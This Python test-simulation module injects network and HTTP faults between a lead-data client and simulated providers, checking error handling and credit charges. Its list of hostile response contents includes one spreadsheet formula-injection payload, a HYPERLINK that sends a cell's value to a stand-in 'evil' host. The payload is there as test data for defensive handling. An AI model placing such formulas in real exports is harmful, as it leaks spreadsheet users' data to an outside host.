"""What lies between client and provider, and everything that goes wrong there.

``send`` is what the product gets in place of its transport, and keeps its promises: a request that provably
never left raises NotSentError, an answer that is lost raises AnswerLostError, everything else is an answer.
"""

from __future__ import annotations

import dataclasses
import json
import random
from pathlib import Path
from typing import Any

from leadkit.errors import AnswerLostError, BadAnswerError, NotSentError
from leadkit.providers.base import Request, Response
from tests.simulation.checker import Checker
from tests.simulation.protocol import PROTOCOLS, Reply
from tests.simulation.provider import DO_NOT_CONTACT, Provider
from tests.simulation.schedule import HTTP_FAULTS, NETWORK_FAULTS, Schedule
from tests.simulation.scheduler import Process, Scheduler

_JSON = {"content-type": "application/json"}
_HTML = Response(502, {"content-type": "text/html"}, b"<html><title>Bad gateway</title></html>")
_RETRY_AFTER = (
    "7",
    "0",
    "1.5",
    "-5",
    "",
    "5, 60",
    "99999999999999999999",
    "NaN",
    "Mon, 02 Mar 2026 09:10:00 GMT",
)
_ENDS_RUN = ("no_credits", "key_refused", "scope_refused", "error_in_200", "over_price")
_CASES = json.loads((Path(__file__).parent.parent / "providers" / "hostile.json").read_text())["cases"]
#: By provider, those about one person that have a body.
_HOSTILE: dict[str, list[dict[str, Any]]] = {
    provider: [
        case
        for case in _CASES
        if case["operation"] == operation
        and "body" in case["http"]
        and not case["http"].get("transport")
        and case["id"] != "LF05"  # what a search may not cost is less than what a record may
    ]
    for provider, operation in (
        ("leadleap", "POST /leads/unlock"),
        ("leadiq", "POST /graphql searchPeople"),
        ("leadfeeder", "companies.search / contact reveal"),
    )
}
#: What these bodies say: names, or that there is nobody.
_HOSTILE_WORDS: dict[str, tuple[str | None, ...]] = {
    "leadleap": ("Sarah Mitchell", "Sarah", '=HYPERLINK("http://evil/?"&A1,"x")'),
    "leadiq": (None,),
    "leadfeeder": ("Example Company Ltd", DO_NOT_CONTACT),
}
#: As a number, an id has lost its last digits.
_LOST_DIGITS = 9007199254740993.0
_TIRED = {
    "asked": {"id": "-"},
    "http": {"status": 500, "headers": {}, "body": "["},
    "expect": {"charge_milli": {"lo": 0, "hi": 0}},
}


class Wire:
    """Carries one process's requests to the provider, or does not."""

    def __init__(
        self,
        schedule: Schedule,
        scheduler: Scheduler,
        provider: Provider,
        rng: random.Random,
        checker: Checker,
    ) -> None:
        self.failing = True
        self._schedule = schedule
        self._scheduler = scheduler
        self._provider = provider
        self._rng = rng
        self._checker = checker
        self._protocol = PROTOCOLS[schedule.provider]
        kinds = (*NETWORK_FAULTS, *HTTP_FAULTS)
        self._faults = [kind for kind in schedule.faults if kind in kinds]

    def send(self, request: Request) -> Response:
        task = self._scheduler.task
        assert task is not None
        task.naps = 0
        asked = self._protocol.asked(request)
        self._checker.sends(task, asked)
        self._scheduler.pause(f"sends {request.path} {' '.join(asked)}", within=60.0)
        fault = self._fault()
        self._scheduler.note(task.process, f"  meets {fault}" if fault else "  is heard")
        answer = self._answer(task.process, request, asked, fault)
        if isinstance(answer, Exception):
            wait = 60.0 if fault.startswith("timeout") else 0.1
        else:
            wait = 600.0 if fault == "slow" else 0.1
        self._scheduler.pause("awaits the answer", seconds=self._rng.uniform(0.0, wait))
        self._scheduler.note(task.process, f"  gets {_in_short(answer)}")
        if isinstance(answer, Exception):
            raise answer
        return answer

    def _fault(self) -> str:
        if not self.failing or not self._faults or self._rng.random() > self._schedule.fault_rate:
            return ""
        # What leaves a charge unclear is what hurts; what ends a run hides what would have come after it.
        weights = [
            3.0 if kind.endswith("_after") else 0.3 if kind in _ENDS_RUN else 1.0 for kind in self._faults
        ]
        return self._rng.choices(self._faults, weights)[0]

    # -- what becomes of a request ---------------------------------------------------------------------------

    def _answer(
        self, process: Process, request: Request, asked: list[str], fault: str
    ) -> Response | Exception:
        if fault == "refused":
            return NotSentError(
                "LeadLeap: the connection was refused. Nothing was sent.", provider="leadleap"
            )
        if fault == "timeout_before":
            return _lost()
        if not asked:
            return self._of_usage(fault)
        if refusal := self._refusal(fault, request):
            return refusal
        if fault == "hostile":
            return self._hostile(asked)
        reply = self._carry_out(asked, fault)
        if fault == "delivered_twice":
            self._carry_out(asked, fault)
        self._checker.look(f"after {' '.join(asked)} was carried out")
        return self._on_the_way_back(reply, request, fault)

    def _of_usage(self, fault: str) -> Response | Exception:
        if fault.endswith("_after") or fault in ("limited", "key_refused", "html_in_200_before"):
            return _HTML
        used, left = self._provider.usage()
        self._checker.told(self._scheduler.task, left)
        return Response(200, _JSON, self._protocol.usage(used, left))

    def _refusal(self, fault: str, request: Request) -> Response | None:
        """An answer to a request that is not carried out."""
        codes = {
            "no_credits": (402, "CREDITS_EXHAUSTED"),
            "key_refused": (401, "UNAUTHORIZED"),
            "scope_refused": (403, "FORBIDDEN"),
            "bad_request": (400, "BAD_REQUEST"),
            "limited": (429, "RATE_LIMITED"),
            "error_in_200": (200, self._rng.choice(("CREDITS_EXHAUSTED", "PLAN_LIMIT", "RATE_LIMITED"))),
            "error_before": (self._rng.choice((500, 502, 503)), "INTERNAL_ERROR"),
        }
        if fault == "limited_by_gateway":
            return Response(429, {"content-type": "text/html"}, b"<html>slow down</html>")
        if fault == "html_in_200_before":
            return dataclasses.replace(_HTML, status=200)
        if fault not in codes:
            return None
        status, code = codes[fault]
        headers = dict(_JSON)
        if fault == "limited":
            headers["retry-after"] = self._rng.choice(_RETRY_AFTER)
        return Response(status, headers, self._error(status, code, request))

    def _error(self, status: int, code: str, request: Request) -> bytes:
        return self._protocol.answer(Reply(status, error=code, reports_cost=False), request)

    def _carry_out(self, asked: list[str], fault: str) -> Reply:
        now = self._scheduler.now
        if self._schedule.provider == "leadiq":
            return self._provider.find(asked, now, over_price=fault == "over_price")
        if self._schedule.provider == "leadfeeder":
            return self._provider.read(asked, now, over_price=fault == "over_price")
        if self._schedule.step == "validate_emails":
            return self._provider.validate(asked, now)
        return self._provider.unlock(asked[0], now, over_price=fault == "over_price")

    def _on_the_way_back(self, reply: Reply, request: Request, fault: str) -> Response | Exception:
        if fault == "timeout_after":
            return _lost()
        if fault == "redirect_after":
            return BadAnswerError("LeadLeap: the answer is a redirect.", provider="leadleap")
        if fault == "error_after":
            status = self._rng.choice((500, 503))
            return Response(status, _JSON, self._error(status, "INTERNAL_ERROR", request))
        if fault == "html_in_200_after":
            return dataclasses.replace(_HTML, status=200)
        if reply.items:
            reply = self._distorted(reply, fault)
        body = self._protocol.answer(reply, request)
        if fault == "reset_midway":
            return _lost(body[: len(body) // 2])
        if fault == "truncated_after":
            return Response(reply.status, _JSON, body[: self._rng.randrange(1, len(body) - 1)])
        for item in reply.items:
            if "refused" not in item:
                words = item.get("full_name") or item.get("reason")
                self._provider.sent(self._id(item), DO_NOT_CONTACT if item.get("do_not_contact") else words)
        if fault == "no_data_after" and not reply.error:
            body = self._protocol.answer(dataclasses.replace(reply, no_data=True), request)
        return Response(reply.status, _JSON, body)

    def _distorted(self, reply: Reply, fault: str) -> Reply:
        items = reply.items
        if fault == "short_after":
            items = (
                items[:-1] if len(items) > 1 else [{k: v for k, v in items[0].items() if k != "job_title"}]
            )
        elif (
            fault == "reordered" and self._schedule.provider == "leadleap"
        ):  # under aliases there is no order
            items = items[::-1]
        elif fault == "wrong_id_after" and self._schedule.provider == "leadfeeder":
            # Any other id may be the one that the record has now; one that came twice, or as a number, may not.
            unclear = {
                **self._provider.record(self._rng.choice(sorted(self._provider.prices))),
                "now": _LOST_DIGITS,
            }
            items = [self._rng.choice([unclear, *items[1:]]), *items[1:]]
        elif fault == "wrong_id_after":
            others = [entity for entity in sorted(self._provider.prices) if entity != self._id(items[0])]
            if others:
                items = [self._provider.record(self._rng.choice(others)), *items[1:]]
        return dataclasses.replace(reply, items=items)

    def _hostile(self, asked: list[str]) -> Response:
        """An answer that was written beforehand. What it says of its cost is what it costs."""
        entity, now, price = asked[0], self._scheduler.now, self._schedule.price
        cases = _HOSTILE[self._schedule.provider]
        if self._schedule.provider == "leadiq":
            first = entity not in self._provider.owned_since
            case = self._rng.choice(cases)
            cost = self._rng.choice((0, price)) if first and case["expect"]["charge_milli"]["hi"] else 0
        else:
            first = entity not in self._provider.owned_since and price == 1000
            case = self._rng.choice([c for c in cases if first or c["expect"]["charge_milli"]["hi"] == 0])
            listed = case["expect"]["charge_milli"]
            cost = listed["lo"] if listed["lo"] == listed["hi"] else self._rng.choice((0, 1000))
        if self._schedule.step != "unlock" or len(asked) > 1 or not self._provider._can_pay(cost):
            case, cost = _TIRED, 0
        if cost:
            self._provider.charge_by_hand(entity, cost, now)
            self._checker.look(f"after {entity} was carried out")
        for words in _HOSTILE_WORDS[self._schedule.provider]:
            self._provider.sent(entity, words)
        http, asked_for = case["http"], case["asked"]
        placeholder = asked_for.get("id") or next(iter(asked_for.values()))
        body = http["body"].replace(placeholder, entity).encode("utf-8", "surrogatepass")
        return Response(http["status"], http["headers"], body)

    @staticmethod
    def _id(item: dict[str, Any]) -> str:
        found: str = item.get("id") or item["email"]
        return found


def _lost(partial: bytes = b"") -> AnswerLostError:
    error = AnswerLostError("LeadLeap: the answer is lost. It may have been charged.", provider="leadleap")
    error.partial = partial
    return error


def _in_short(answer: Response | Exception) -> str:
    if isinstance(answer, Exception):
        return type(answer).__name__
    return f"HTTP {answer.status}, {answer.body[:60].decode('latin-1')}"
